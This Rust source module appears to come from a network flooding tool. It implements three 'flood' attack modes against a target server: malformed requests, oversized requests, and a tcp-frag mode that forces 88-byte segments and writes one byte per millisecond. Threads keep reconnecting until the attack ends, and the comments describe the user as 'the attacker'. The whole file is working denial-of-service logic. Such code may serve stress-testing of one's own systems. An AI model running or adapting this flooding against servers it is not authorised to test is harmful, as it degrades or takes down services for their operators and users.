//! The flood kinds (malformed, oversized, tcp-frag): one thread per
//! connection, each sending a request, reading what comes back, and
//! reconnecting whenever the server closes, until the attack's end.

use std::net::TcpStream;
use std::time::Duration;

use crate::net::{self, Answer, Broke, End, SocketOptions, ANSWER_TIMEOUT};
use crate::payload;
use crate::plan::{AttackKind, AttackPlan};
use crate::tally::{Failure, Tally};

/// The pause after a failed connect, so a server that is gone costs the
/// attacker a few connects a second per thread instead of a whole CPU.
pub const CONNECT_BACKOFF: Duration = Duration::from_millis(100);

/// tcp-frag: the largest segment announced (Linux's floor is 88 bytes, and
/// it raises a smaller value to that), and the bytes per write with the
/// pause between writes.
const FRAG_MSS: u32 = 88;
const FRAG_PIECE: usize = 1;
const FRAG_PAUSE: Duration = Duration::from_millis(1);

/// Runs connection number `index` of a flood until the end.
pub fn run_connection(plan: &AttackPlan, index: usize, end: &End, tally: &Tally) {
    let opts = match plan.kind {
        AttackKind::TcpFrag => SocketOptions {
            max_segment: Some(FRAG_MSS),
            nodelay: true,
            ..SocketOptions::default()
        },
        _ => SocketOptions::default(),
    };
    // Each connection starts at its own place in the rotation, so a few
    // connections still send every case.
    let mut n = index;
    let mut buf = Vec::new();
    while !end.reached() {
        let Some(mut stream) = net::connect(plan.target, opts, end, tally) else {
            net::pause(CONNECT_BACKOFF, end);
            continue;
        };
        loop {
            let outcome = exchange(plan, n, &mut stream, &mut buf, end, tally);
            n = n.wrapping_add(1);
            match outcome {
                Ok(Answer { reusable: true, .. }) => continue,
                // The answer said the server closes (or we could not frame
                // it): the next request goes on a new connection.
                Ok(Answer { .. }) => {
                    tally.closed_by_server();
                    break;
                }
                Err(Broke::End) => return,
                Err(Broke::Closed) => {
                    tally.closed_by_server();
                    break;
                }
                Err(Broke::Failed(f)) => {
                    if f == Failure::Reset {
                        tally.closed_by_server();
                    }
                    tally.failed(f);
                    break;
                }
            }
        }
    }
}

/// One request of the flood and its answer.
fn exchange(
    plan: &AttackPlan,
    n: usize,
    stream: &mut TcpStream,
    buf: &mut Vec<u8>,
    end: &End,
    tally: &Tally,
) -> Result<Answer, Broke> {
    let (request, piece, pause) = match plan.kind {
        AttackKind::Malformed => (
            payload::malformed(n, &plan.host),
            usize::MAX,
            Duration::ZERO,
        ),
        AttackKind::Oversized => (
            payload::oversized(n, &plan.host),
            usize::MAX,
            Duration::ZERO,
        ),
        AttackKind::TcpFrag => (
            payload::good_request(&plan.host, &plan.path),
            FRAG_PIECE,
            FRAG_PAUSE,
        ),
        held => unreachable!("{} is not a flood", held.name()),
    };
    match net::write_pieces(stream, &request, piece, pause, end, tally) {
        Ok(()) => tally.request(),
        // A server that refuses a request part-way may have answered before
        // it closed: read that answer rather than count only the close.
        Err(Broke::Failed(Failure::Reset)) | Err(Broke::Closed) => {}
        Err(broke) => return Err(broke),
    }
    let answer = net::read_answer(stream, buf, ANSWER_TIMEOUT, end, tally)?;
    tally.answer(answer.status);
    Ok(answer)
}
